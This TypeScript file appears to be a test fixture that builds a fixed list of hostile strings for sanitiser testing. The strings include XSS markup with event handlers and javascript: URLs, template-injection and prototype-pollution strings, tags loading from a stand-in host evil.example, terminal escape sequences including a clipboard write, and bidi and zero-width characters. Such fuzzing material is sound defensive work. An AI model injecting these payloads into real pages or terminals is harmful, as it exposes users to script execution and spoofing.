// Two hundred and more texts that try to become something else: markup, addresses, terminal sequences,
// characters that reorder or hide.

const MARKUP = [
  '<script>X</script>',
  '<ScRiPt>X</sCrIpT>',
  '<img src=x onerror=X>',
  '<svg onload=X>',
  '<svg><script>X</script></svg>',
  '<iframe src="javascript:X"></iframe>',
  '<body onload=X>',
  '<a href="javascript:X">click</a>',
  '<details open ontoggle=X>',
  '<video><source onerror=X></video>',
  '<input autofocus onfocus=X>',
  '<math><mi xlink:href="javascript:X">x</mi></math>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<base href=http://evil.example/>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<object data="javascript:X"></object>',
  '<template><script>X</script></template>',
  '<form action=javascript:X><button>go</button></form>',
  '<img src="http://evil.example/pixel">',
]

const ENDS = ['', '"', "'", '">', "'>", '</pre>', '</textarea>', '-->']

const SCRIPTS = ['globalThis.pwned=1', 'alert(1)']

const OTHERS = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '${globalThis.pwned=1}',
  '{{constructor.constructor("globalThis.pwned=1")()}}',
  '<!--lit-part--><?lit$1$>',
  '__proto__',
  'constructor',
  '\u001b]8;;javascript:alert(1)\u001b\\link\u001b]8;;\u001b\\',
  '\u001b]8;;http://evil.example/\u0007link\u001b]8;;\u0007',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001b]0;title\u0007',
  '\u001bP$q"p\u001b\\',
  '\u001b[6n\u001b[c\u001b[2J\u001b[1;1H',
  '\u009b31mC1\u009d0;x\u009c',
  '\u001b[38;2;1;2;3;4;5;6;7;8;9mmany\u001b[999999999999999999999m',
  '\u202eevil\u202c',
  '\u2066hidden\u2069',
  'a\u200bb\ufeffc\u2028d\u2029e',
  '\u0000\u0008\u007f',
  '\ud800 lone',
  'before\rafter',
]

/** The texts, the same each time. */
export function hostilePayloads(): string[] {
  const markup = MARKUP.flatMap((one, index) =>
    ENDS.map((end, turn) => {
      return `${end}${one.replace('X', SCRIPTS[(index + turn) % SCRIPTS.length] ?? '')}`
    }),
  )
  const wrapped = MARKUP.map((one) => `\u001b[31m${one.replace('X', 'alert(2)')}\u001b[0m`)
  return [...markup, ...wrapped, ...OTHERS]
}
